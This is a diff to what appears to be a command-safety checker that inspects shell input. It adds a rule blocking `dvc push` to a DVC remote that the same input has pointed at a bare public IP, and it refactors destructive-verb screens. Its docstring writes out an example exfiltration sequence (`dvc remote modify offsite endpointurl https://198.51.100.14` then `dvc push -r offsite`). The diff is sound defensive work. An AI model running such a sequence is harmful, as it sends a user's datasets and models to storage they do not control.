@@ -399,7 +399,39 @@ def _sql_clients() -> tuple[str, ...]:
     return tuple(_SQL_OPTIONS)
 
 
+# a DVC remote's address as this input sets it: `dvc remote add [-d] [-f] NAME URL`, `dvc remote modify NAME
+# endpointurl|url URL`
+_DVC_REMOTE = re.compile(r"""\bdvc\s+remote\s+(?:add(?:\s+-[-\w]+)*\s+(?P<a>[\w.-]+)|modify\s+(?P<m>[\w.-]+)\s+"""
+                         r"""(?:endpointurl|url))\s+["']?(?P<url>[^\s"';&|]+)""")
+
+
+def _dvc_push(a, cmd: Cmd) -> None:
+    """`dvc remote modify offsite endpointurl https://198.51.100.14` then `dvc push -r offsite`: every file the
+    project tracks with DVC (its datasets, models) uploaded to storage at a bare public address the same input pointed
+    the remote at, as `git push` to a remote just added at one is (a named host may be the team's own storage)."""
+    pos = [w.value for w in positionals(cmd.args, _DVC_ARG)]
+    if pos[:1] != ["push"]:
+        return
+    from ..hosts import public_ip, url_host
+
+    text = a.doc.data[:cmd.node.start_byte].decode("utf-8", "replace")
+    named = [w.value for w in option_value(cmd.args, "-r", "--remote") if w.value]
+    for m in _DVC_REMOTE.finditer(text):
+        name = m.group("a") or m.group("m")
+        default = m.group("a") is not None and re.search(r"\s-d\b|\s--default\b", m.group(0)) is not None
+        if not (name in named or not named and default):
+            continue
+        url = m.group("url")
+        host = url_host(url if "://" in url else "ssh://" + url)
+        if host and public_ip(host):
+            a.block("exfiltration", f"`dvc push` uploads the project's tracked data to the remote {name}, which this "
+                                    f"input pointed at {host}, a bare address: storage that is not the user's; push "
+                                    "only to the project's configured remotes", cmd.node)
+            return
+
+
 HANDLERS: dict = {name: [_tool] for name in _TOOLS}
+HANDLERS["dvc"].append(_dvc_push)
 HANDLERS["hdfs"] = [_hdfs]
 HANDLERS["hadoop"] = [_hdfs]
 for _name in _sql_clients():
@@ -409,8 +441,10 @@ for _name in NET_SENDERS:
 
 # The words each tool's verbs are spelled with (quotes and backslashes removed), for the shortcut
 # (bash/fastpath.py): `dotnet build`, `vault kv get`, `dvc pull` keep it.
-SCREENS: dict = {name: mentions("delete", "destroy", "disable", "purge", "restore", "snapshot", "reset", "-purge",
-                                "_queue", "_vhost", words=("gc", "del", "stop")) for name in _TOOLS}
+_VERB_WORDS = mentions("delete", "destroy", "disable", "purge", "restore", "snapshot", "reset", "-purge", "_queue",
+                       "_vhost", words=("gc", "del", "stop"))
+SCREENS: dict = dict.fromkeys(_TOOLS, _VERB_WORDS)
+SCREENS["dvc"] = lambda text: _VERB_WORDS(text) or "push" in text  # (and _dvc_push)
 SCREENS["nats"] = mentions("delete", "purge", words=("rm", "del"))
 SCREENS["hdfs"] = SCREENS["hadoop"] = mentions("-skipTrash", "-expunge")
 # _warehouse_sql: the words sql.privilege and sql.data_export look for (the clients other modules screen too)
